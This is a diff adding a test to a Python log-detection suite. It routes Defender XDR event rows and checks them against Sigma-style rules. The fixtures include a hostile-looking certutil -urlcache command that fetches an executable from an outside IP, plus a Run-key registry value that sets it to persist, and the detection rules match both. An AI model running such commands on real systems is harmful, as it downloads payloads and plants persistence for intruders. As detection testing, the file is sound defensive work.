@@ -205,3 +205,57 @@ def test_log_analytics_event_table_rows_route_by_their_eventlog_column():
     route = route_of(event)
     assert "sysmon" in route.services and "pipe_created" in route.categories
     assert event.fields["PipeName"] == "\\MICROSOFT##WID\\tsql\\query" and "EventLog" not in event.fields
+
+
+# --- Microsoft Defender XDR rows (advanced hunting export, Sentinel's Device* tables) ------------
+
+XDR_PROCESS = {"Timestamp": "2024-05-01T10:00:00Z", "DeviceName": "ws01.corp.local", "ActionType": "ProcessCreated",
+               "FileName": "certutil.exe", "FolderPath": "C:\\Windows\\System32\\certutil.exe",
+               "ProcessCommandLine": "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
+               "ProcessVersionInfoOriginalFileName": "CertUtil.exe", "AccountName": "alice",
+               "InitiatingProcessFolderPath": "C:\\Windows\\System32\\cmd.exe", "InitiatingProcessFileName": "cmd.exe",
+               "InitiatingProcessCommandLine": "cmd.exe /c run.bat"}
+XDR_REGISTRY = {"Timestamp": "2024-05-01T10:00:05Z", "DeviceName": "ws01.corp.local", "ActionType": "RegistryValueSet",
+                "RegistryKey": "HKEY_CURRENT_USER\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                "RegistryValueName": "updater", "RegistryValueData": "C:\\Users\\Public\\a.exe",
+                "InitiatingProcessFolderPath": "C:\\Windows\\System32\\reg.exe"}
+XDR_RULES = """title: t-proc
+name: t-proc
+level: high
+logsource: {product: windows, category: process_creation}
+detection:
+  selection:
+    Image|endswith: '\\\\certutil.exe'
+    OriginalFileName: CertUtil.exe
+    CommandLine|contains: urlcache
+    ParentImage|endswith: '\\\\cmd.exe'
+  condition: selection
+---
+title: t-run
+name: t-run
+level: high
+logsource: {product: windows, category: registry_set}
+detection:
+  selection:
+    TargetObject|startswith: 'HKU\\\\'
+    TargetObject|endswith: '\\\\CurrentVersion\\\\Run\\\\updater'
+    Details|startswith: 'C:\\\\Users\\\\Public\\\\'
+  condition: selection
+"""
+
+
+def test_defender_xdr_rows_route_as_windows_process_and_registry_events_in_sysmon_field_names(tmp_path):
+    pack = tmp_path / "xdr.yml"
+    pack.write_text(XDR_RULES)
+    rules = load_rules([pack])
+    sentinel = {**XDR_PROCESS, "Type": "DeviceProcessEvents"}
+    rows = [XDR_PROCESS, XDR_REGISTRY, sentinel]
+    events = list(parse_lines(log_lines([json.dumps(r) for r in rows], "xdr.json"), "json"))
+    assert "process_creation" in route_of(events[0]).categories and "windows" in route_of(events[0]).products
+    assert {"registry_set", "registry_event"} <= route_of(events[1]).categories
+    signals = Detector(rules).scan(events)
+    assert sorted((s.rule_id, tuple(s.line_numbers)) for s in signals) == [("t-proc", (1, 3)), ("t-run", (2,))]
+    # an ordinary certutil call and another Run value stay quiet
+    quiet = [{**XDR_PROCESS, "ProcessCommandLine": "certutil.exe -hashfile report.pdf SHA256"},
+             {**XDR_REGISTRY, "RegistryValueName": "OneDrive"}]
+    assert Detector(rules).scan(list(parse_lines(log_lines([json.dumps(r) for r in quiet], "xdr.json"), "json"))) == []
